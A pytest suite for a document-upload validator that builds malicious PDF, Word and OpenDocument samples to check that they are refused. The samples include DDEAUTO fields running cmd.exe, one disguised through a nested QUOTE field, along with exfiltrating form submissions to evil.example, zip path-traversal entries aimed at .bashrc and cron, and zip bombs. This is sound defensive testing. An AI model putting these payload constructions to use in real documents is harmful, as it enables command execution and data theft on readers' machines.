"""What an upload may not fetch, open or send: content loaded from another file or address when
the document is opened or its fields updated, data sent away, and the packages that hide them.
Each hostile sample is built here, with a clean counterpart that is still accepted."""

import pytest
from django.core.exceptions import ValidationError

from papers.tests import files
from papers.validators import inspect_document


def _inspect(data: bytes, name: str):
    return inspect_document(files.upload(name, data))


def _refusal(data: bytes, name: str) -> list[tuple[str, str]]:
    with pytest.raises(ValidationError) as error:
        _inspect(data, name)
    return [(e.code, e.message % (e.params or {})) for e in error.value.error_list]


# PDF actions.

PDF_ADVICE = ("pdf_active_content", "Export or print it again as a plain PDF and upload it.")
REMOTE_GOTO = ("pdf_remote_goto", "The PDF contains an action that opens another file (GoToR).")
IMPORT_DATA = ("pdf_import_data", "The PDF contains an action that imports data from another file (ImportData).")
SUBMIT_FORM = ("pdf_submit_form", "The PDF contains a form that sends its data to an address (SubmitForm).")
RICH_MEDIA = ("pdf_rich_media", "The PDF contains rich media (Flash, sound, video or 3D content).")
EMBEDDED = ("pdf_embedded_file", "The PDF contains embedded files.")


def _link(action: bytes) -> bytes:
    """A PDF whose page has a link annotation running `action` when clicked."""
    return files.annotated_pdf_bytes(b"<< /Type /Annot /Subtype /Link /Rect [0 0 90 20] /A %s >>" % action)


@pytest.mark.parametrize(
    ("data", "reasons"),
    [
        pytest.param(
            _link(b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\report.pdf) /D [0 /Fit] >>"),
            [REMOTE_GOTO],
            id="gotor",
        ),
        pytest.param(
            _link(b"<< /S /GoToR /F << /FS /URL /F (https://evil.example/next.pdf) >> /D [0 /Fit] >>"),
            [REMOTE_GOTO],
            id="gotor-url-file-specification",
        ),
        pytest.param(
            files.pdf_bytes(
                extra=b"/Outlines 6 0 R ",
                objects=(
                    b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
                    b"<< /Title (Annex) /Parent 6 0 R /A << /S /GoToR /F (annex.pdf) /D [0 /Fit] >> >>",
                ),
            ),
            [REMOTE_GOTO],
            id="gotor-in-an-outline-item",
        ),
        pytest.param(
            _link(b"<< /S /GoTo /D [4 0 R /Fit] /Next << /S /GoToR /F (other.pdf) /D [0 /Fit] >> >>"),
            [REMOTE_GOTO],
            id="gotor-chained-after-a-goto",
        ),
        pytest.param(_link(b"<< /S /Thread /F (other.pdf) /D 0 >>"), [REMOTE_GOTO], id="thread-in-another-file"),
        pytest.param(_link(b"<< /S /ImportData /F (C:\\\\data\\\\fields.fdf) >>"), [IMPORT_DATA], id="import-data"),
        pytest.param(
            files.pdf_bytes(
                extra=b"/AcroForm << /Fields [6 0 R] >> ",
                page_extra=b"/Annots [6 0 R] ",
                objects=(
                    b"<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [0 0 90 20] /P 4 0 R "
                    b"/A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> /Flags 4 >> >>",
                ),
            ),
            [SUBMIT_FORM],
            id="submit-button",
        ),
        pytest.param(_link(b"<< /S /GoToE /T << /R /C /N (attachment.pdf) >> /D [0 /Fit] >>"), [EMBEDDED], id="gotoe"),
        pytest.param(_link(b"<< /S /Sound /Sound 7 0 R >>"), [RICH_MEDIA], id="sound"),
        pytest.param(_link(b"<< /S /Movie /T (clip) >>"), [RICH_MEDIA], id="movie"),
        pytest.param(_link(b"<< /S /Rendition /OP 0 >>"), [RICH_MEDIA], id="rendition"),
    ],
)
def test_a_pdf_action_that_opens_fetches_or_sends_is_refused(data, reasons):
    assert _refusal(data, "paper.pdf") == [*reasons, PDF_ADVICE]


def test_an_opening_action_that_submits_a_form_names_both_reasons():
    data = files.pdf_bytes(extra=b"/OpenAction << /S /SubmitForm /F (https://evil.example/) >> ")
    assert _refusal(data, "paper.pdf") == [
        SUBMIT_FORM,
        ("pdf_open_action", "The PDF runs an action as soon as it is opened (OpenAction)."),
        PDF_ADVICE,
    ]


@pytest.mark.parametrize(
    "action",
    [
        # Navigation inside the paper, and a web link followed only on a click.
        pytest.param(b"<< /S /GoTo /D [4 0 R /Fit] >>", id="goto"),
        pytest.param(b"<< /S /URI /URI (https://www.gfmd.org/) >>", id="uri"),
        pytest.param(b"<< /S /Named /N /NextPage >>", id="named"),
        pytest.param(b"<< /S /Hide /T (note) /H true >>", id="hide"),
        pytest.param(b"<< /S /Trans /Trans << /S /Dissolve >> >>", id="trans"),
        pytest.param(b"<< /S /ResetForm >>", id="reset-form"),
        pytest.param(b"<< /S /Thread /D 0 >>", id="thread-in-this-file"),
    ],
)
def test_a_pdf_link_that_stays_in_the_document_or_goes_to_the_web_is_accepted(action):
    assert _inspect(_link(action), "paper.pdf").file_format == "pdf"


# Word documents: altChunk, fields that load files, parts hidden under other names.

OFFICE_ADVICE = "Remove these and save the document again, or upload it as a PDF."
ALT_CHUNK = ("docx_alt_chunk", "The document includes content from another file (altChunk).")
INCLUDE_PICTURE = (
    "docx_include_picture",
    "The document contains a field that loads an external file (INCLUDEPICTURE).",
)
INCLUDE_TEXT = ("docx_include_text", "The document contains a field that loads an external file (INCLUDETEXT).")
LINK_FIELD = ("docx_link_field", "The document contains a field that loads an external file (LINK).")
EXTERNAL_CONTENT = ("docx_external_content", "The document loads content from outside it.")
DDE = ("docx_dde", "The document contains a DDE field or link, which can run commands on the reader's computer.")
EMBEDDED_MACROS = (
    "docx_embedded_macros",
    "The document contains an embedded file with macros, such as a chart's workbook.",
)
HEADER_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"
MHT = (
    b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n"
    b"<html><body><img src=x onerror=alert(1)><script>alert(1)</script></body></html>"
)


def _header(body: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<w:hdr xmlns:w="{files.W_NS}" xmlns:r="{files.R_NS}">{body}</w:hdr>'
    ).encode()


def _simple_field(instruction: str) -> str:
    instruction = instruction.replace('"', "&quot;")
    return f'<w:p><w:fldSimple w:instr="{instruction}"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'


@pytest.mark.parametrize(
    ("data", "reasons"),
    [
        pytest.param(
            files.docx_bytes(
                body='<w:altChunk r:id="rId10"/>',
                document_rels=(("aFChunk", "afchunk.mht", ""),),
                parts=(("word/afchunk.mht", MHT),),
                content_types='<Default Extension="mht" ContentType="message/rfc822"/>',
            ),
            [ALT_CHUNK],
            id="alt-chunk-of-mht",
        ),
        pytest.param(
            # The part alone, referenced by a relationship: refused even without the element.
            files.docx_bytes(document_rels=(("aFChunk", "chunk.rtf", ""),), parts=(("word/chunk.rtf", b"{\\rtf1 x}"),)),
            [ALT_CHUNK],
            id="alt-chunk-relationship",
        ),
        pytest.param(
            files.docx_bytes(document_rels=(("aFChunk", "https://evil.example/chunk.html", "External"),)),
            [ALT_CHUNK],
            id="alt-chunk-from-an-address",
        ),
        pytest.param(
            files.docx_bytes(
                body=files.docx_field([" INCLUDE", 'PICTURE "https://evil.example/pixel.png" \\d ']),
            ),
            [INCLUDE_PICTURE],
            id="includepicture-split-over-runs",
        ),
        pytest.param(
            files.docx_bytes(body=_simple_field(' includePicture "\\\\evil.example\\share\\logo.png" ')),
            [INCLUDE_PICTURE],
            id="includepicture-simple-field-any-case",
        ),
        pytest.param(
            files.docx_bytes(body=_simple_field(' IMPORT "C:\\images\\logo.wmf" ')),
            [INCLUDE_PICTURE],
            id="import-older-name",
        ),
        pytest.param(
            files.docx_bytes(body=files.docx_field([" INCLUDETEXT ", '"C:\\\\secret\\\\notes.docx" ', "\\! "])),
            [INCLUDE_TEXT],
            id="includetext",
        ),
        pytest.param(
            files.docx_bytes(body=_simple_field(' INCLUDE "https://evil.example/chapter.docx" ')),
            [INCLUDE_TEXT],
            id="include-older-name",
        ),
        pytest.param(
            files.docx_bytes(
                body=files.docx_field([" LI", 'NK Excel.Sheet.12 "C:\\\\data\\\\figures.xlsx" ', "Sheet1!R1C1 \\a "])
            ),
            [LINK_FIELD],
            id="link-split-over-runs",
        ),
        pytest.param(
            files.docx_bytes(body=_simple_field(' DATABASE \\d "C:\\data\\people.mdb" \\s "SELECT * FROM t" ')),
            [EXTERNAL_CONTENT],
            id="database",
        ),
        pytest.param(
            files.docx_bytes(
                body=files.docx_field([" INCLUDEPICTURE ", '"https://evil.example/a.png"'])
                + _simple_field(' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" ')
                + '<w:altChunk r:id="rId10"/>',
                document_rels=(("aFChunk", "afchunk.mht", ""),),
                parts=(("word/afchunk.mht", MHT),),
            ),
            [DDE, ALT_CHUNK, INCLUDE_PICTURE],
            id="several-reasons-in-order",
        ),
        pytest.param(
            # A header part named .bin: Word reads it as XML because the content types say so.
            files.docx_bytes(
                parts=(("word/header1.bin", _header('<w:altChunk r:id="rId1"/>')),),
                content_types=f'<Override PartName="/word/header1.bin" ContentType="{HEADER_CONTENT_TYPE}"/>',
            ),
            [ALT_CHUNK],
            id="alt-chunk-in-a-part-with-another-extension",
        ),
        pytest.param(
            files.docx_bytes(
                parts=(("custom/header1.xml", _header(_simple_field(' INCLUDETEXT "C:\\x.docx" '))),),
                content_types=f'<Override PartName="/custom/header1.xml" ContentType="{HEADER_CONTENT_TYPE}"/>',
            ),
            [INCLUDE_TEXT],
            id="field-in-a-part-outside-the-word-folder",
        ),
    ],
)
def test_a_word_document_that_loads_another_file_is_refused(data, reasons):
    assert _refusal(data, "paper.docx") == [*reasons, ("docx_active_content", OFFICE_ADVICE)]


@pytest.mark.parametrize(
    "data",
    [
        # The words alone, in the text or as a bookmark's name, are not fields.
        pytest.param(files.docx_bytes("Use INCLUDEPICTURE, INCLUDETEXT and LINK fields with care"), id="text"),
        pytest.param(files.docx_bytes(body=files.docx_field([" REF LINK_to_annex \\h "])), id="ref-field"),
        pytest.param(files.docx_bytes(body=_simple_field(' TOC \\o "1-3" \\h ')), id="table-of-contents"),
        pytest.param(
            files.docx_bytes(
                parts=(("word/header1.xml", _header("<w:p><w:r><w:t>Draft</w:t></w:r></w:p>")),),
                content_types=f'<Override PartName="/word/header1.xml" ContentType="{HEADER_CONTENT_TYPE}"/>',
            ),
            id="header",
        ),
    ],
)
def test_a_word_document_with_ordinary_fields_is_accepted(data):
    assert _inspect(data, "paper.docx").file_format == "docx"


# Embedded packages: a chart's workbook is allowed, one that brings macros or links is not.

OLE = ("docx_ole_object", "The document contains an embedded OLE object.")
WORKBOOK_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
MACRO_WORKBOOK_CONTENT_TYPE = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
SPREADSHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def _workbook(
    *, main: str = WORKBOOK_CONTENT_TYPE, rels: tuple = (), parts: tuple[tuple[str, bytes], ...] = ()
) -> bytes:
    """An .xlsx workbook (or .xlsm, by its content type), as Word embeds behind a chart."""
    content_types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{main}"/></Types>'
    ).encode()
    workbook = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook xmlns="{SPREADSHEET_NS}" '
        f'xmlns:r="{files.R_NS}"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
    ).encode()
    sheet = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="{SPREADSHEET_NS}">'
        '<sheetData><row r="1"><c r="A1"><v>42</v></c></row></sheetData></worksheet>'
    ).encode()
    entries = [
        ("[Content_Types].xml", content_types),
        ("_rels/.rels", files.relationships(("officeDocument", "xl/workbook.xml", ""))),
        ("xl/workbook.xml", workbook),
        ("xl/_rels/workbook.xml.rels", files.relationships(("worksheet", "worksheets/sheet1.xml", ""), *rels)),
        ("xl/worksheets/sheet1.xml", sheet),
    ]
    return files._zip([*entries, *parts])


def _docx_with_chart(workbook: bytes, name: str = "Microsoft_Excel_Worksheet.xlsx") -> bytes:
    """A Word document with a chart whose data is the embedded `workbook`."""
    chart = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" '
        f'xmlns:r="{files.R_NS}"><c:externalData r:id="rId10"/></c:chartSpace>'
    ).encode()
    return files.docx_bytes(
        document_rels=(("chart", "charts/chart1.xml", ""),),
        parts=(
            ("word/charts/chart1.xml", chart),
            ("word/charts/_rels/chart1.xml.rels", files.relationships(("package", f"../embeddings/{name}", ""))),
            (f"word/embeddings/{name}", workbook),
        ),
    )


VBA_PROJECT = files.OLE_MAGIC + b"\x00" * 600
DDE_LINK = (
    f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><externalLink xmlns="{SPREADSHEET_NS}">'
    '<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems>'
    "</ddeLink></externalLink>"
).encode()


@pytest.mark.parametrize(
    ("data", "reasons"),
    [
        pytest.param(
            _docx_with_chart(
                _workbook(main=MACRO_WORKBOOK_CONTENT_TYPE, parts=(("xl/vbaProject.bin", VBA_PROJECT),)),
                "Microsoft_Excel_Macro-Enabled_Worksheet.xlsm",
            ),
            [EMBEDDED_MACROS],
            id="macro-enabled-workbook",
        ),
        pytest.param(
            # Plain content types and an innocent name: the VBA project part gives it away.
            _docx_with_chart(_workbook(parts=(("xl/vbaProject.bin", VBA_PROJECT),))),
            [EMBEDDED_MACROS],
            id="workbook-hiding-a-vba-project",
        ),
        pytest.param(
            files.docx_bytes(
                document_rels=(("package", "embeddings/Microsoft_Word_Document.docx", ""),),
                parts=(("word/embeddings/Microsoft_Word_Document.docx", files.docm_bytes()),),
            ),
            [EMBEDDED_MACROS],
            id="embedded-macro-enabled-document",
        ),
        pytest.param(
            _docx_with_chart(
                _workbook(
                    rels=(("externalLink", "externalLinks/externalLink1.xml", ""),),
                    parts=(("xl/externalLinks/externalLink1.xml", DDE_LINK),),
                )
            ),
            [DDE],
            id="workbook-with-a-dde-link",
        ),
        pytest.param(
            _docx_with_chart(
                _workbook(
                    parts=(
                        (
                            "xl/externalLinks/_rels/externalLink1.xml.rels",
                            files.relationships(("externalLinkPath", "file:///C:/data/secret.xlsx", "External")),
                        ),
                    ),
                )
            ),
            [EXTERNAL_CONTENT],
            id="workbook-linked-to-another-workbook",
        ),
        pytest.param(
            _docx_with_chart(_workbook(parts=(("xl/embeddings/oleObject1.bin", VBA_PROJECT),))),
            [OLE],
            id="workbook-with-an-ole-object",
        ),
        pytest.param(
            files.docx_bytes(
                parts=(
                    (
                        "word/embeddings/Microsoft_Word_Document.docx",
                        files.docx_bytes(body=files.docx_field([" INCLUDEPICTURE ", '"https://evil.example/a.png"'])),
                    ),
                )
            ),
            [INCLUDE_PICTURE],
            id="embedded-document-with-an-includepicture-field",
        ),
    ],
)
def test_an_embedded_package_with_macros_or_links_is_refused(data, reasons):
    assert _refusal(data, "paper.docx") == [*reasons, ("docx_active_content", OFFICE_ADVICE)]


def test_a_word_document_with_a_chart_and_its_workbook_is_accepted():
    assert _inspect(_docx_with_chart(_workbook()), "paper.docx").file_format == "docx"


def test_an_opendocument_text_embedding_a_package_with_macros_is_refused():
    macros = files.odt_bytes(parts=(("Basic/Standard/Module1.xml", b'<?xml version="1.0"?><module/>'),))
    data = files.odt_bytes(parts=(("Object 1", macros),))
    assert _refusal(data, "paper.odt") == [
        ("odt_embedded_macros", "The document contains an embedded file with macros, such as a chart's workbook."),
        ("odt_active_content", OFFICE_ADVICE),
    ]


def test_packages_nested_too_deeply_are_refused():
    package = _workbook()
    for level in range(4):
        package = files._zip([(f"level{level}.zip", package)])
    data = files.docx_bytes(parts=(("word/embeddings/package.zip", package),))
    assert _refusal(data, "paper.docx") == [
        ("zip_too_deep", "This document holds packages inside packages too deeply to be checked.")
    ]


def test_a_damaged_embedded_package_is_refused():
    data = files.docx_bytes(parts=(("word/embeddings/Microsoft_Excel_Worksheet.xlsx", b"PK\x03\x04" + b"\x00" * 64),))
    assert _refusal(data, "paper.docx") == [
        ("zip_damaged", "This document is damaged: a part of it cannot be read. Save it again and upload it.")
    ]


# The ZIP container: judged from its directory, before anything is unpacked.


def _with_entry(data: bytes, name: str, content: bytes) -> bytes:
    """`data` (a ZIP) with one more entry, written whatever its name."""
    import io
    import warnings
    import zipfile

    out = io.BytesIO(data)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile warns of a duplicate name: that is the point
        with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(zipfile.ZipInfo(name), content)
    return out.getvalue()


def _with_zeros(data: bytes, megabytes: int) -> bytes:
    """`data` with a part of `megabytes` MB of zeros, written 1 MB at a time (a few hundred KB packed)."""
    import io
    import zipfile

    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive, archive.open("blank.bin", "w") as part:
        for _ in range(megabytes):
            part.write(bytes(1024 * 1024))
    return out.getvalue()


CLEAN = {"paper.docx": files.docx_bytes, "paper.odt": files.odt_bytes}


@pytest.mark.parametrize("name", ["paper.docx", "paper.odt"])
@pytest.mark.parametrize(
    "entry", ["../../../home/portal/.bashrc", "word/../../evil.sh", "/etc/cron.d/job", "C:\\Windows\\evil.dll"]
)
def test_a_package_with_a_part_named_outside_it_is_refused(name, entry):
    data = _with_entry(CLEAN[name](), entry, b"echo owned")
    assert _refusal(data, name) == [
        (
            "zip_unsafe_name",
            f"This document contains a part whose name points outside it ({entry}). It is not accepted.",
        )
    ]


def test_a_package_with_two_parts_of_the_same_name_is_refused():
    data = _with_entry(files.docx_bytes(), "word/document.xml", files.docx_bytes())
    assert _refusal(data, "paper.docx") == [
        (
            "zip_duplicate_name",
            "This document contains two parts with the same name (word/document.xml). It is not accepted.",
        )
    ]


@pytest.mark.parametrize("name", ["paper.docx", "paper.odt"])
def test_a_zip_bomb_is_refused_without_unpacking_it(name):
    data = _with_zeros(CLEAN[name](), 210)
    assert len(data) < 1024 * 1024  # 210 MB of zeros packs into a few hundred KB
    assert _refusal(data, name) == [
        (
            "zip_bomb",
            "This document would unpack to 210.0\xa0MB, more than a hundred times its own size: it looks like a "
            "ZIP bomb and is not accepted.",
        )
    ]


def test_a_zip_bomb_inside_an_embedded_workbook_is_refused():
    data = _docx_with_chart(_with_zeros(_workbook(), 210))
    assert _refusal(data, "paper.docx") == [
        (
            "zip_bomb",
            "This document would unpack to 210.0\xa0MB, more than a hundred times its own size: it looks like a "
            "ZIP bomb and is not accepted.",
        )
    ]


@pytest.mark.parametrize("name", ["paper.docx", "paper.odt"])
def test_a_package_that_packs_well_but_stays_small_is_accepted(name):
    data = _with_zeros(CLEAN[name](), 20)  # packed a thousand times, but 20 MB unpacked
    assert _inspect(data, name).file_format == name.rsplit(".", 1)[-1]


@pytest.mark.parametrize("entry", ["word/media/image..png", "word/media/..hidden.png", "Pictures/a..b.png"])
def test_two_dots_inside_a_name_are_not_a_path_out(entry):
    data = _with_entry(files.docx_bytes(), entry, b"\x89PNG\r\n\x1a\n" + b"\x00" * 64)
    assert _inspect(data, "paper.docx").file_format == "docx"


# OpenDocument texts: the equivalents of altChunk and INCLUDETEXT / INCLUDEPICTURE (a linked
# section, a linked picture), and anything else that loads an address.

ODT_ADVICE = ("odt_active_content", OFFICE_ADVICE)
ODT_EXTERNAL_CONTENT = ("odt_external_content", "The document loads content from outside it.")
ODT_EXTERNAL_IMAGE = ("odt_external_image", "The document shows a picture loaded from outside it.")
ODT_FORM_SUBMISSION = ("odt_form_submission", "The document contains a form that sends its data to an address.")
STYLE_NAMESPACES = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" '
    'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink"'
)


def _styles(content: str) -> tuple[tuple[str, bytes], ...]:
    return (
        (
            "styles.xml",
            f'<?xml version="1.0" encoding="UTF-8"?><office:document-styles {STYLE_NAMESPACES}>{content}'
            "</office:document-styles>".encode(),
        ),
    )


def _form(content: str) -> str:
    return (
        '<office:forms xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0" '
        f'xmlns:xforms="http://www.w3.org/2002/xforms">{content}</office:forms>'
    )


@pytest.mark.parametrize(
    ("data", "reasons"),
    [
        pytest.param(
            files.odt_bytes(
                body='<text:section text:name="Annex"><text:section-source xlink:href="file:///C:/share/annex.odt" '
                'text:filter-name="writer8"/></text:section>'
            ),
            [("odt_external_document", "The document includes another document through a link.")],
            id="linked-section",
        ),
        pytest.param(
            files.odt_bytes(
                body='<text:p><draw:frame><draw:image xlink:href="Pictures/../../../home/x.png"/></draw:frame></text:p>'
            ),
            [ODT_EXTERNAL_IMAGE],
            id="picture-path-climbing-out",
        ),
        pytest.param(
            files.odt_bytes(body='<text:p><draw:frame><draw:image xlink:href="%2e%2e/x.png"/></draw:frame></text:p>'),
            [ODT_EXTERNAL_IMAGE],
            id="picture-path-percent-encoded",
        ),
        pytest.param(
            files.odt_bytes(
                body='<text:p><draw:frame><draw:image xlink:href="\\\\evil.example\\share\\x.png"/>'
                "</draw:frame></text:p>"
            ),
            [ODT_EXTERNAL_IMAGE],
            id="picture-on-a-windows-share",
        ),
        pytest.param(
            files.odt_bytes(
                parts=_styles(
                    '<office:styles><style:style style:name="Page"><style:graphic-properties>'
                    '<style:background-image xlink:href="https://evil.example/track.png"/>'
                    "</style:graphic-properties></style:style></office:styles>"
                )
            ),
            [ODT_EXTERNAL_CONTENT],
            id="background-image-from-an-address",
        ),
        pytest.param(
            files.odt_bytes(
                parts=_styles(
                    '<office:font-face-decls><style:font-face style:name="Evil"><svg:font-face-src>'
                    '<svg:font-face-uri xlink:href="https://evil.example/font.ttf"/></svg:font-face-src>'
                    "</style:font-face></office:font-face-decls>"
                )
            ),
            [ODT_EXTERNAL_CONTENT],
            id="font-from-an-address",
        ),
        pytest.param(
            files.odt_bytes(
                body='<text:alphabetical-index text:name="Index"><text:alphabetical-index-source>'
                "</text:alphabetical-index-source></text:alphabetical-index>"
                '<text:alphabetical-index-auto-mark-file xlink:href="file:///C:/share/marks.sdi"/>'
            ),
            [ODT_EXTERNAL_CONTENT],
            id="index-marks-from-another-file",
        ),
        pytest.param(
            files.odt_bytes(body=_form('<form:form form:name="F" xlink:href="https://evil.example/collect"/>')),
            [ODT_FORM_SUBMISSION],
            id="form-sending-its-data",
        ),
        pytest.param(
            files.odt_bytes(
                body=_form(
                    '<xforms:model><xforms:submission xforms:id="s" action="https://evil.example/collect" '
                    'method="post"/></xforms:model>'
                )
            ),
            [ODT_FORM_SUBMISSION],
            id="xforms-submission",
        ),
        pytest.param(
            files.odt_bytes(
                body=_form('<xforms:model><xforms:instance src="https://evil.example/data.xml"/></xforms:model>')
            ),
            [ODT_EXTERNAL_CONTENT],
            id="xforms-instance-from-an-address",
        ),
    ],
)
def test_an_opendocument_text_that_loads_an_address_is_refused(data, reasons):
    assert _refusal(data, "paper.odt") == [*reasons, ODT_ADVICE]


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(
            files.odt_bytes(
                body='<text:p><draw:a xlink:href="https://www.gfmd.org/"><draw:frame><draw:image '
                'xlink:href="Pictures/logo.png"/></draw:frame></draw:a></text:p>'
            ),
            id="picture-linking-to-a-web-page",
        ),
        pytest.param(
            files.odt_bytes(body='<text:section text:name="Annex"><text:p>Annex</text:p></text:section>'),
            id="section-of-its-own",
        ),
        pytest.param(
            files.odt_bytes(
                parts=_styles(
                    '<office:styles><style:style style:name="Page"><style:graphic-properties>'
                    '<style:background-image xlink:href="Pictures/paper.png"/>'
                    "</style:graphic-properties></style:style></office:styles>"
                )
            ),
            id="background-image-in-the-package",
        ),
        pytest.param(files.odt_bytes(body=_form('<form:form form:name="F"/>')), id="form-sending-nothing"),
    ],
)
def test_an_opendocument_text_with_its_own_content_and_web_links_is_accepted(data):
    assert _inspect(data, "paper.odt").file_format == "odt"


def test_an_opendocument_text_as_libreoffice_saves_it_with_an_empty_configuration_part_is_accepted():
    data = files.odt_bytes(parts=(("Configurations2/accelerator/current.xml", b""), ("Configurations2/toolbar/", b"")))
    assert _inspect(data, "paper.odt").file_format == "odt"


def test_a_chart_workbook_written_by_a_spreadsheet_program_is_accepted():
    import io

    import openpyxl
    from openpyxl.chart import BarChart, Reference

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for row in range(1, 5):
        sheet.append([row, row * row])
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=2, min_row=1, max_row=4))
    sheet.add_chart(chart, "D2")
    out = io.BytesIO()
    workbook.save(out)
    assert _inspect(_docx_with_chart(out.getvalue()), "paper.docx").file_format == "docx"


# Fields nested in fields.

COMPUTED_FIELD = (
    "docx_computed_field",
    "The document contains a field whose type is computed by another field, a way of hiding DDE or INCLUDE fields.",
)


def _run(content: str) -> str:
    return f"<w:r>{content}</w:r>"


def _mark(kind: str) -> str:
    return _run(f'<w:fldChar w:fldCharType="{kind}"/>')


def _instruction(text: str) -> str:
    return _run(f'<w:instrText xml:space="preserve">{text}</w:instrText>')


def test_a_field_whose_name_is_computed_by_a_nested_field_is_refused():
    # { { QUOTE 68 68 69 65 85 84 79 } c:\windows\system32\cmd.exe "/k calc" }: QUOTE makes "DDEAUTO".
    body = (
        "<w:p>"
        + _mark("begin")
        + _mark("begin")
        + _instruction(" QUOTE 68 68 69 65 85 84 79 ")
        + _mark("separate")
        + _run("<w:t>harmless</w:t>")
        + _mark("end")
        + _instruction(' c:\\windows\\system32\\cmd.exe "/k calc" ')
        + _mark("separate")
        + _run("<w:t>1</w:t>")
        + _mark("end")
        + "</w:p>"
    )
    assert _refusal(files.docx_bytes(body=body), "paper.docx") == [
        COMPUTED_FIELD,
        ("docx_active_content", OFFICE_ADVICE),
    ]


@pytest.mark.parametrize(
    "body",
    [
        # A table of contents: page-reference fields nested in its result.
        pytest.param(
            "<w:p>"
            + _mark("begin")
            + _instruction(' TOC \\o "1-3" \\h ')
            + _mark("separate")
            + _mark("begin")
            + _instruction(" PAGEREF _Toc1 \\h ")
            + _mark("separate")
            + _run("<w:t>3</w:t>")
            + _mark("end")
            + _mark("end")
            + "</w:p>",
            id="table-of-contents-with-page-references",
        ),
        # A field in an argument of another: the outer field's name is written out.
        pytest.param(
            "<w:p>"
            + _mark("begin")
            + _instruction(' IF "')
            + _mark("begin")
            + _instruction(" PAGE ")
            + _mark("separate")
            + _run("<w:t>1</w:t>")
            + _mark("end")
            + _instruction('" = "1" "First" "Next" ')
            + _mark("separate")
            + _run("<w:t>First</w:t>")
            + _mark("end")
            + "</w:p>",
            id="if-with-a-nested-page-field",
        ),
    ],
)
def test_fields_nested_in_a_result_or_an_argument_are_accepted(body):
    assert _inspect(files.docx_bytes(body=body), "paper.docx").file_format == "docx"


def test_an_embedded_workbook_with_activex_controls_is_refused():
    workbook = _workbook(parts=(("xl/activeX/activeX1.xml", b'<?xml version="1.0"?><ax:ocx xmlns:ax="urn:ax"/>'),))
    assert _refusal(_docx_with_chart(workbook), "paper.docx") == [
        ("docx_activex", "The document contains ActiveX controls."),
        ("docx_active_content", OFFICE_ADVICE),
    ]


def test_many_embedded_packages_share_one_limit_on_what_they_unpack():
    # Each workbook unpacks to 41 MB of XML (within the limits on its own); five of them, 205 MB.
    padding = b"<x>" + b" " * (41 * 1024 * 1024) + b"</x>"
    workbook = _workbook(parts=(("xl/padding.xml", padding),))
    data = files.docx_bytes(parts=tuple((f"word/embeddings/Workbook{i}.xlsx", workbook) for i in range(5)))
    assert len(data) < 1024 * 1024
    assert _refusal(data, "paper.docx") == [("zip_too_large", "This document is too large once unpacked.")]


def _chart(href: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        f"<office:document-content {files.ODF_NAMESPACES} "
        'xmlns:chart="urn:oasis:names:tc:opendocument:xmlns:chart:1.0" office:version="1.3"><office:body>'
        f'<office:chart><chart:chart xlink:href="{href}" xlink:type="simple" chart:class="chart:bar"/>'
        "</office:chart></office:body></office:document-content>"
    ).encode()


def test_a_chart_naming_its_container_as_libreoffice_writes_it_is_accepted():
    data = files.odt_bytes(
        body='<text:p><draw:frame><draw:object xlink:href="./Object 1"/></draw:frame></text:p>',
        parts=(("Object 1/content.xml", _chart("..")),),
    )
    assert _inspect(data, "paper.odt").file_format == "odt"


def test_a_sub_document_linking_out_of_the_package_is_refused():
    data = files.odt_bytes(
        body='<text:p><draw:frame><draw:object xlink:href="./Object 1"/></draw:frame></text:p>',
        parts=(("Object 1/content.xml", _chart("../../data.ods")),),
    )
    assert _refusal(data, "paper.odt") == [ODT_EXTERNAL_CONTENT, ODT_ADVICE]
